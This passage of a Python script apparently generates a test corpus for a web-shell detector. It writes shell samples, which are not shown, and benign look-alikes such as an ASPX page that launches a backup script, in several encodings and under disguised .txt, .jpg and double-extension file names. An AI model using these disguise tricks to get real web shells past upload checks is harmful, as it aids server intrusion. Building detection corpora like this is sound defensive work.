    '<%@ Page Language="C#" %>\r\n<script runat="server">\r\n// Runs the nightly backup script on demand.\r\n'
    'void Run_Click(object s, EventArgs e) {\r\n  var p = System.Diagnostics.Process.Start(Server.MapPath("~/App_Data/backup.cmd"));\r\n'
    '  p.WaitForExit(60000);\r\n  Status.Text = "exit " + p.ExitCode;\r\n}\r\n</script>\r\n',
}


def encodings(text):
    yield "u8", text.encode("utf-8")
    yield "bom", b"\xef\xbb\xbf" + text.encode("utf-8")
    yield "u16", b"\xff\xfe" + text.encode("utf-16-le")


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def make_shells(out):
    rows = []
    for n, (family, base, ext, level, text) in enumerate(SHELLS):
        other = ".txt" if n % 2 == 0 else ".jpg"
        for enc, data in encodings(text):
            for name in ("%s-%s%s" % (base, enc, ext),
                         "%s-%s%s" % (base, enc, other),
                         "%s-%s.txt@%s%s" % (base, enc, base, ext)):
                rel = "%s/%s" % (family, name)
                path = os.path.join(out, "files", rel)
                write(path, data)
                rows.append("%s\t%s\t%s\t%s\n" % (rel, family, base, level))
    with open(os.path.join(out, "manifest.tsv"), "w") as f:
        f.write("# relpath\tfamily\tbase\tminimum level\n")
        f.writelines(rows)


def make_benign(out):
    for name, text in sorted(BENIGN.items()):
        for enc, data in encodings(text):
            stem, ext = os.path.splitext(name)
            write(os.path.join(out, "%s-%s%s" % (stem, enc, ext)), data)


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ("shells", "benign"):
        sys.stderr.write("usage: mkshells.py shells|benign DIR\n")
        return 2
    (make_shells if sys.argv[1] == "shells" else make_benign)(sys.argv[2])
    return 0


if __name__ == "__main__":
    sys.exit(main())
